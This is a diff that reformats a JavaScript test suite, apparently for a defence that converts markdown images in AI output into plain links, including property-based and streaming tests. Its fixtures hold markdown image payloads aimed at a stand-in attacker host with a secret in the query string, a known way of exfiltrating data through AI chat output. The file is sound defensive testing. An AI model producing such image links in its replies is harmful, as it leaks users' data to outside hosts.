@@ -7,7 +7,10 @@ describe('images in a text of AI', () => {
     ['![a](https://attacker.test/?q=secret)', '[a](https://attacker.test/?q=secret)'],
     ['![](https://attacker.test/)', '[](https://attacker.test/)'],
     ['Look: ![a [b] c](<https://attacker.test/> "t")', 'Look: [a [b] c](<https://attacker.test/> "t")'],
-    ['[![a](https://attacker.test/1)](https://attacker.test/2)', '[[a](https://attacker.test/1)](https://attacker.test/2)'],
+    [
+      '[![a](https://attacker.test/1)](https://attacker.test/2)',
+      '[[a](https://attacker.test/1)](https://attacker.test/2)',
+    ],
     ['![a\nb](\nhttps://attacker.test/)', '[a\nb](\nhttps://attacker.test/)'],
     ['![a](&#104;ttps://attacker.test/)', '[a](&#104;ttps://attacker.test/)'],
     ['!![a](https://attacker.test/)', '[a](https://attacker.test/)'],
@@ -37,7 +40,22 @@ describe('images in a text of AI', () => {
   })
 
   it('become links whatever the pieces are in which they come', () => {
-    const part = fc.constantFrom('![', '!', '[', 'a', '](', ']', ':', ' ', '\n', '\n\n', 'https://x.test', ')', '][', '`')
+    const part = fc.constantFrom(
+      '![',
+      '!',
+      '[',
+      'a',
+      '](',
+      ']',
+      ':',
+      ' ',
+      '\n',
+      '\n\n',
+      'https://x.test',
+      ')',
+      '][',
+      '`',
+    )
     fc.assert(
       fc.property(fc.array(part, { maxLength: 30 }), (parts) => {
         const images = createImagesToLinks()
@@ -50,7 +68,9 @@ describe('images in a text of AI', () => {
 
   it('are none across what comes between two parts of a text', () => {
     const images = createImagesToLinks()
-    const shown = [images.push('See ![a'), images.pause(), images.push('](https://attacker.test/)'), images.end()].join('')
+    const shown = [images.push('See ![a'), images.pause(), images.push('](https://attacker.test/)'), images.end()].join(
+      '',
+    )
     expect(shown).toBe('See ![a\n\n](https://attacker.test/)')
   })
 })
